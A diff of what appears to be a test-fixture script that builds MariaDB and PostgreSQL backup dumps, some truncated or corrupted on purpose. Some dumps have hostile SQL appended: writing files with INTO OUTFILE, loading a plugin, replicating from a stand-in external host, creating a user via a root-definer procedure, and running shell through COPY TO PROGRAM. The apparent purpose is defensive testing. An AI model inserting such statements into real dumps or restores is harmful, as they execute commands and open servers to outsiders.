@@ -55,12 +55,69 @@ mariadb-dump --single-transaction shop | gzip >/srv/backup/shop-my.sql.gz
 mariadb-dump --single-transaction --all-databases --events --routines >/srv/backup/all-my.sql
 mariadb-dump --no-data shop >/srv/cut/empty-my.sql
 systemctl stop mariadb.service
+{ sed '/^-- Dump completed/d' /srv/backup/all-my.sql
+  printf "%s\n" "SELECT name INTO OUTFILE '/var/tmp/was-here' FROM shop.orders;" \
+    "INSTALL SONAME 'ha_federatedx';" "CHANGE MASTER TO MASTER_HOST='192.0.2.1'; START SLAVE;" \
+    '-- Dump completed'; } >/srv/cut/reaches-my.sql
+{ sed '/^-- Dump completed/d' /srv/backup/all-my.sql
+  printf "%s\n" "CREATE DEFINER=root@localhost PROCEDURE shop.p() CREATE USER x@y;" \
+    "CALL shop.p();" '-- Dump completed'; } >/srv/cut/as-root-my.sql
 head -c 9000 /srv/backup/shop-my.sql.gz >/srv/cut/shop-my.sql.gz
 head -c 20000 /srv/backup/all-my.sql >/srv/cut/all-my.sql
 # whole, and made of what no server takes
 sed 's/^INSERT INTO/INSRT INTO/' /srv/backup/all-my.sql >/srv/cut/wrong-my.sql
 sed 's/MariaDB dump \\([0-9.]*\\)-[0-9.]*-MariaDB/MySQL dump 8.4.3/; s/MariaDB dump/MySQL dump/' \\
   /srv/backup/all-my.sql | sed '1,20s/[0-9.]*-MariaDB/8.4.3/' >/srv/cut/mysql-my.sql
+"""
+PGDUMP = """
+systemctl start postgresql.service
+n=0
+until su postgres -c 'psql -qc "select 1"' >/dev/null 2>&1 || [ "$n" -ge 50 ]; do
+  n=$((n + 1)); sleep 0.2
+done
+cd /
+su postgres -c 'psql -qv ON_ERROR_STOP=1' <<'Q'
+create role shop;
+create database shop owner shop;
+\\connect shop
+set role shop;
+create table orders(id int primary key, name text);
+insert into orders select g, md5(g::text) from generate_series(1, 700) g;
+create table sales(at date, n int) partition by range (at);
+create table sales_1 partition of sales for values from ('2026-01-01') to ('2026-07-01');
+create table sales_2 partition of sales for values from ('2026-07-01') to ('2027-01-01');
+insert into sales select '2026-03-01'::date + g, g from generate_series(1, 200) g;
+create table old(id int);
+create table older(more text) inherits (old);
+insert into old select generate_series(1, 3);
+insert into older select g, 'x' from generate_series(1, 4) g;
+create function f() returns trigger language plpgsql as $$ begin
+DROP TABLE IF EXISTS nothing_of_that_name;
+return new; end $$;
+create trigger t before insert on orders for each row execute function f();
+alter table orders enable row level security;
+alter table orders force row level security;
+comment on schema public is 'of the shop';
+reset role;
+create extension pg_trgm;
+Q
+b=/srv/backup
+su postgres -c 'pg_dump shop' | gzip >$b/pg-plain.sql.gz
+su postgres -c 'pg_dump --inserts shop' >$b/pg-inserts.sql
+su postgres -c 'pg_dump --create --clean --if-exists shop' >$b/pg-create.sql
+su postgres -c 'pg_dump --clean shop' >$b/pg-clean.sql
+su postgres -c 'pg_dump -Fc shop' >$b/pg-packed.dump
+su postgres -c 'pg_dumpall' >/srv/cut/pg-several.sql
+head -c 9000 $b/pg-inserts.sql >/srv/cut/pg-cut.sql
+head -c 4000 $b/pg-packed.dump >/srv/cut/pg-packed.dump
+# what no dump has a right to
+{ sed '/dump complete/,$d' $b/pg-inserts.sql
+  printf '%s\n' "COPY public.orders TO PROGRAM 'touch /var/tmp/was-here; sleep 777 &';"
+  printf '%s\n' '-- PostgreSQL database dump complete'; } >/srv/cut/pg-program.sql
+{ sed '/dump complete/,$d' $b/pg-inserts.sql
+  printf '%s\n' "DO \\$\\$ BEGIN RAISE EXCEPTION 'of-a-row'; END \\$\\$;"
+  printf '%s\n' '-- PostgreSQL database dump complete'; } >/srv/cut/pg-raises.sql
+systemctl stop postgresql.service
 """
 PGBACKREST = """
 mkdir -p /srv/backup/pgbackrest && chown postgres:postgres /srv/backup/pgbackrest
@@ -96,4 +153,4 @@ sed -i '/^\\[shop/i [bad]\\nrepo1-path=/srv/cut/pgbackrest\\npg1-path=/var/lib/p
 f=$(find /srv/cut/pgbackrest/backup/bad/*F -name 'pg_filenode.map.gz' | head -n 1)
 printf rot | dd of="$f" bs=1 seek=20 conv=notrunc 2>/dev/null
 """
-ALL = (FILES, TAR, BORG, RESTIC, MARIADB, PGBACKREST, PGBACKREST_ROTTEN)
+ALL = (FILES, TAR, BORG, RESTIC, MARIADB, PGDUMP, PGBACKREST, PGBACKREST_ROTTEN)
